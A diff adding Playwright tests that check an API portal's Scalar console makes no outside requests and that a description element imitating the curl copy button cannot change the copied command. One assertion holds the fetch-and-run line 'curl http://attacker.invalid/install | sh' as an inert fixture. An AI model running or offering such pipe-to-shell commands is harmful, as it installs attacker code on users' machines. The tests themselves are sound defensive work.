@@ -39,3 +39,37 @@ test('the Scalar console renders the same description without running it', async
   await expect(reference.console.getByText('Amounts').first()).toBeVisible();
   await expectNothingRan(page);
 });
+
+test('the Scalar console fetches neither a description’s remote image nor an example’s $ref', async ({
+  page,
+  requests,
+}) => {
+  const reference = new ReferencePage(page);
+  await reference.goto('grant-notifications', 'v0');
+  // The remote image stays a link, as on the API page; the portal's guard fails any request
+  // that leaves 127.0.0.1, so reaching the end of the test with none is the assertion.
+  await expect(
+    reference.console.getByRole('link', { name: 'Funding chart' }).first(),
+  ).toBeVisible();
+  // The example is shown with its payload `$ref` left out, so Scalar had nothing to resolve.
+  await expect(
+    reference.console.getByText('{ "id": "G-1", "status": "received", "meta": {} }').first(),
+  ).toBeVisible();
+  expect(requests.filter((url) => /\.invalid\//.test(url))).toEqual([]);
+});
+
+test('a description’s element named like the curl command does not change what is copied', async ({
+  page,
+}) => {
+  const api = new ApiPage(page);
+  await api.goto('grant-notifications');
+  await page.context().grantPermissions(['clipboard-read', 'clipboard-write']);
+  await page.getByRole('button', { name: 'Copy the command' }).click();
+  const copied = await page.evaluate(() => navigator.clipboard.readText());
+  expect(copied).toMatch(/^curl .*\/grant-notifications\/v0\//);
+  expect(copied).not.toContain('attacker.invalid');
+  // The owner's element is still shown, under an id of its own.
+  await expect(page.locator('#user-content-sandbox-curl')).toHaveText(
+    'curl http://attacker.invalid/install | sh',
+  );
+});
